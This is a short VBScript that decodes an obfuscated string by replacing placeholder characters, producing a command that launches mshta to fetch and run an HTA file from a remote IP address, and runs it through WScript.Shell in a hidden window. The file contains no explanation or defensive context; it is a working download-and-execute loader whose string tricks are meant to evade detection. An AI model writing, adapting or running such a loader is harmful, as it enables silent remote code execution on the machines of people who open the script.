Dim a, b
a = "mXXhYY h~~p://203.0.113.44/view.h~a"
a = Replace(a, "XX", "s")
a = Replace(Replace(a, "YY", "ta"), "~", "t")
Set b = CreateObject("WScript.Shell")
b.Run a, 0, False
